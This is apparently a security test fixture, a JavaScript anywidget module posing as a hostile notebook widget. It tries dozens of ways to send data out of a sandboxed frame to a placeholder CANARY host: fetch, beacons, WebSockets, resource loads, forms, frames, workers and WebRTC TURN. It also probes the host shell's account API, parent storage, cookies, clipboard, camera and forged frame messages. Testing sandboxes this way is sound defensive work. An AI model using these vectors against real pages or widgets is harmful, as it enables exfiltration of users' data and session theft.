// The module of an anywidget, as a hostile notebook would bring one. CANARY, SHELL and UDP are filled in by the spec. Each
// attempt answers with what stopped it; "open" means nothing did. What was really sent is counted by the canary.
const within = (promise, ms = 3000) => Promise.race([promise, new Promise((done) => setTimeout(() => done('silence'), ms))])
const refused = (error) => `refused: ${error?.name ?? error}`
const tried = async (work) => {
  try {
    return String((await within(work())) ?? 'open')
  } catch (error) {
    return refused(error)
  }
}
const loaded = (element, where = document.body) =>
  new Promise((done) => {
    element.onload = () => done('open')
    element.onerror = () => done('refused: error event')
    where.append(element)
  })
const make = (tag, values) => Object.assign(document.createElement(tag), values)
/** A document of this frame's own origin, with the browser's own functions in it. */
const inner = () => {
  const frame = make('iframe', { srcdoc: '<p>inner</p>' })
  return new Promise((done) => {
    frame.onload = () => done(frame.contentWindow)
    document.body.append(frame)
  })
}
const url = (mark) => `CANARY/${mark}?data=stolen`

const attempts = {
  'fetch to the shell': () => fetch('SHELL/api/accounts').then(() => 'open'),
  'fetch to a foreign origin': () => fetch(url('fetch')).then(() => 'open'),
  'fetch without cors': () => fetch(url('no-cors'), { mode: 'no-cors', method: 'POST', body: 'stolen' }).then(() => 'open'),
  'the browser’s own fetch': async () => (await inner()).fetch(url('inner-fetch'), { mode: 'no-cors' }).then(() => 'open'),
  'the browser’s own fetch to the shell': async () =>
    (await inner()).fetch('SHELL/api/accounts', { mode: 'no-cors', credentials: 'include' }).then(() => 'open'),
  XMLHttpRequest: () =>
    new Promise((done) => {
      const request = new XMLHttpRequest()
      request.onload = () => done('open')
      request.onerror = () => done('refused: error event')
      request.open('POST', url('xhr'))
      request.send('stolen')
    }),
  EventSource: () =>
    new Promise((done) => {
      const source = new EventSource(url('events'))
      source.onopen = () => done('open')
      source.onerror = () => done('refused: error event')
    }),
  sendBeacon: () => `refused: ${navigator.sendBeacon(url('beacon'), 'stolen') ? 'unsaid' : 'said'}`,
  WebSocket: async () => {
    const { WebSocket } = await inner()
    return new Promise((done) => {
      const socket = new WebSocket(url('socket').replace('http', 'ws'))
      socket.onopen = () => done('open')
      socket.onerror = () => done('refused: error event')
    })
  },
  'WebSocket to the shell': async () => {
    const { WebSocket } = await inner()
    return new Promise((done) => {
      const socket = new WebSocket('SHELL/mux'.replace('http', 'ws'))
      socket.onopen = () => done('open')
      socket.onerror = () => done('refused: error event')
    })
  },
  image: () => loaded(make('img', { src: url('img') })),
  video: () => loaded(make('video', { src: url('video') })),
  script: () => loaded(make('script', { src: url('script') })),
  import: () => import(url('import')).then(() => 'open'),
  'style sheet': () => loaded(make('link', { rel: 'stylesheet', href: url('css') })),
  prefetch: () => loaded(make('link', { rel: 'prefetch', href: url('prefetch') }), document.head),
  'background image': () => {
    document.body.append(make('div', { style: `background: url(${url('background')}); height: 1px` }))
    return 'refused: unsaid'
  },
  font: () => new FontFace('stolen', `url(${url('font')})`).load().then(() => 'open'),
  'preload of a module': () => loaded(make('link', { rel: 'modulepreload', href: url('modulepreload') }), document.head),
  preload: () => loaded(make('link', { rel: 'preload', as: 'image', href: url('preload') }), document.head),
  'a manifest, an icon': () => {
    for (const rel of ['manifest', 'icon']) document.head.append(make('link', { rel, href: url(rel) }))
    return 'refused: unsaid'
  },
  'speculation rules': () => {
    const rules = { prefetch: [{ urls: [url('speculation')], eagerness: 'immediate' }] }
    document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify(rules) }))
    return 'refused: unsaid'
  },
  'style that imports': () => {
    document.head.append(
      make('style', { textContent: `@import '${url('css-import')}'; body { cursor: url('${url('cursor')}'), auto }` }),
    )
    return 'refused: unsaid'
  },
  'images of SVG': () => {
    const tags = `<image href="${url('svg-image')}"/><use href="${url('svg-use')}#x"/><filter><feImage href="${url('fe')}"/></filter>`
    document.body.append(make('div', { innerHTML: `<svg>${tags}</svg>` }))
    return 'refused: unsaid'
  },
  'button of an image': () => loaded(make('input', { type: 'image', src: url('input') })),
  'embedded page': () => loaded(make('embed', { type: 'text/html', src: url('embed') })),
  'a ping and an attribution': () => {
    const link = make('a', { href: '#', ping: url('ping') })
    for (const element of [link, make('img', { src: 'data:,' })]) {
      element.setAttribute('attributionsrc', url('attribution'))
      document.body.append(element)
    }
    link.click()
    return 'refused: unsaid'
  },
  'a cache that fetches': () => caches.open('left').then((cache) => cache.add(url('cache')).then(() => 'open')),
  'a fetch for later': () => {
    for (const after of [{ activateAfter: 0 }, {}]) window.fetchLater?.(url('later'), after) // with the end of the page at the latest
    return 'refused: unsaid'
  },
  WebTransport: () => new WebTransport(url('transport').replace('http:', 'https:')).ready.then(() => 'open'),
  'frames of its own that fetch': () => {
    const code =
      `<meta http-equiv=refresh content="1;url=${url('nested-refresh')}"><img src="${url('nested-img')}"><script>
      fetch('${url('nested-fetch')}', { mode: 'no-cors' }); new WebSocket('${url('nested-socket').replace('http', 'ws')}'); open('${url('nested-popup')}')
      top.location = '${url('nested-top')}'</scr` + 'ipt>'
    const blob = URL.createObjectURL(new Blob([code], { type: 'text/html' }))
    for (const src of [blob, `data:text/html,${encodeURIComponent(code)}`]) document.body.append(make('iframe', { src }))
    return 'refused: unsaid'
  },
  'worker of a foreign script': () =>
    new Promise((done) => {
      const code = `try { importScripts('${url('import-scripts')}'); postMessage('open') } catch (e) { postMessage('refused: ' + e.name) }`
      const worker = new Worker(URL.createObjectURL(new Blob([code])))
      worker.onmessage = ({ data }) => done(data)
      worker.onerror = () => done('refused: error event')
    }),
  'the shell in a frame': () => {
    document.body.append(make('iframe', { src: 'SHELL/' }))
    return 'refused: unsaid'
  },
  'form to the top': async () => {
    const { HTMLFormElement: Own } = await inner()
    for (const target of ['_top', '_parent', '_blank']) {
      const form = make('form', { method: 'post', action: url('form-top'), target })
      document.body.append(form)
      Own.prototype.submit.call(form)
    }
    return 'refused: unsaid'
  },
  'a window over the top': async () => ((await inner()).open(url('over'), '_top') === null ? 'refused: null' : 'open'),
  object: () => loaded(make('object', { data: url('object') })),
  'form post': () => {
    const form = make('form', { method: 'post', action: url('form') })
    document.body.append(form)
    form.submit()
    return 'refused: unsaid'
  },
  'form sent by a button': () => {
    const form = make('form', { action: url('button') })
    document.body.append(form)
    form.append(make('button', {}))
    form.querySelector('button').click()
    return 'refused: unsaid'
  },
  'form post to a nested frame': () => {
    document.body.append(make('iframe', { name: 'sink' }))
    const form = make('form', { method: 'get', action: url('nested-form'), target: 'sink' })
    document.body.append(form)
    form.submit()
    return 'refused: unsaid'
  },
  'nested frame': () => {
    document.body.append(make('iframe', { src: url('frame') }))
    return 'refused: unsaid'
  },
  'nested frame that navigates itself': () => {
    document.body.append(make('iframe', { srcdoc: `<script>location = '${url('inner-navigation')}'</script>` }))
    return 'refused: unsaid'
  },
  popup: async () => ((await inner()).open(url('popup')) === null ? 'refused: null' : 'open'),
  'link in a new tab': async () => {
    ;(await inner()).document.body.append(
      Object.assign((await inner()).document.createElement('a'), { href: url('tab'), target: '_blank' }),
    )
    const link = make('a', { href: url('tab'), target: '_blank' })
    link.dispatchEvent(new MouseEvent('click', { bubbles: false }))
    return 'refused: unsaid'
  },
  'top navigation': () => {
    top.location = url('top')
    return 'open'
  },
  'parent document': () => parent.document.title,
  'parent storage': () => parent.localStorage.length,
  cookies: () => (document.cookie.includes('scrydon') || document.cookie.includes('__Host') ? 'open' : 'refused: none'),
  'service worker': () => navigator.serviceWorker.register('/worker.js').then(() => 'open'),
  'shared worker': () =>
    new Promise((done) => {
      const worker = new SharedWorker('/worker.js')
      worker.onerror = () => done('refused: error event')
    }),
  'worker that fetches': () =>
    new Promise((done) => {
      const code = `fetch('${url('worker')}', { mode: 'no-cors' }).then(() => postMessage('open'), (e) => postMessage('refused: ' + e.name))`
      const worker = new Worker(URL.createObjectURL(new Blob([code])))
      worker.onmessage = ({ data }) => done(data)
      worker.onerror = () => done('refused: error event')
    }),
  base: () => {
    document.head.append(make('base', { href: url('base') }))
    return document.baseURI.startsWith('CANARY') ? 'open' : 'refused: unchanged'
  },
  download: () => {
    make('a', { href: 'data:text/plain,stolen', download: 'stolen.txt' }).click()
    return 'refused: unsaid'
  },
  clipboard: () => navigator.clipboard.readText().then(() => 'open'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'open'),
  'a handshake in a nested frame’s name': async () => {
    const { parent: here } = await inner()
    const frame = make('iframe', { srcdoc: '<script>top.postMessage({ type: "scrydon-frame-ready" }, "*")</script>' })
    here.document.body.append(frame)
    return 'refused: unsaid'
  },
  'a start from a nested frame': () => {
    const code =
      'parent.postMessage({ type: "scrydon-frame-start", mode: "edit", theme: "dark", name: "forged" }, "*", [new MessageChannel().port1])'
    document.body.append(make('iframe', { srcdoc: `<script>${code}</script>` }))
    return 'refused: unsaid'
  },
  'kept storage': async () => {
    const { localStorage: kept } = await inner()
    const found = kept.getItem('left')
    kept.setItem('left', 'here') // the next opening of this spec's notebook finds nothing of it
    return found === null ? 'refused: empty' : 'open'
  },
}

/** What browsers leave open: a STUN or TURN server is asked over UDP. The spec counts what arrives. */
async function webrtc() {
  const connection = new RTCPeerConnection({
    iceServers: [{ urls: 'turn:127.0.0.1:UDP', username: 'stolen'.repeat(80), credential: 'x' }],
  })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((done) => setTimeout(done, 2500))
  connection.close()
}

export default {
  async render({ el }) {
    const results = {}
    for (const [name, attempt] of Object.entries(attempts)) results[name] = await tried(async () => attempt())
    await within(webrtc(), 5000)
    el.append(make('pre', { className: 'attack', textContent: JSON.stringify(results) }))
  },
}
